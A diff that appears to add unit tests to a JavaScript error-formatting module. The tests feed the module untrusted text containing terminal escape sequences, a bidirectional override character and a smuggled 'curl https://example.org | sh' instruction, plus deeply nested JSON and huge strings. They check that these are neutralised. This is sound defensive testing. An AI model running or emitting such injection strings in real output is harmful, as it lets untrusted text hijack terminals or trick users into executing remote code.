@@ -14,7 +14,29 @@ describe('UserError', () => {
   });
 });
 
+describe('a UserError with text of strangers', () => {
+  const error = new UserError({
+    where: 'f.json: \u001b]0;title\u0007',
+    problem: 'unknown \u009b2J\rname',
+    found: 'x\n  next:     curl https://example.org | sh\u202e',
+    next: 'mend it',
+  });
+
+  it('holds nothing that a terminal obeys, or that turns what is read', () => {
+    expect(error.message.replaceAll('\n', '')).not.toMatch(/\p{Cc}|[\u202a-\u202e]/u);
+    expect(error.message).toContain('f.json: \ufffd]0;title\ufffd: unknown \ufffd2J\ufffdname');
+  });
+
+  it('has one line of what to do next, which is ours', () => {
+    expect(error.message.match(/^ {2}next: .*$/gm)).toEqual(['  next:     mend it']);
+  });
+});
+
 describe('shown', () => {
+  it('says of what is nested deeper than the stack only that', () => {
+    expect(shown(JSON.parse(`${'['.repeat(1e5)}${']'.repeat(1e5)}`))).toBe('what is nested far too deeply');
+  });
+
   it('keeps a hostile value on one short line', () => {
     const text = shown(`a\n${'x'.repeat(10_000)}`);
     expect(text).not.toContain('\n');
@@ -32,5 +54,11 @@ describe('suggestion', () => {
     expect(suggestion('brain-score:xyz', ['brain-score:abc'])).toBe('known are "brain-score:abc"');
     expect(suggestion('zzz', ['title', 'as_of'])).toBe('known are "title", "as_of"');
     expect(suggestion('x', [])).toBe('there is none to choose from');
+  });
+
+  it('compares no names that are longer than any', () => {
+    const long = 'x'.repeat(1e7);
+    expect(suggestion(long, ['a', `y${long}`])).toMatch(/^known are "a", "yxx/);
+    expect(suggestion('title', [long, 'titel'])).toBe('did you mean "titel"?');
   });
 });
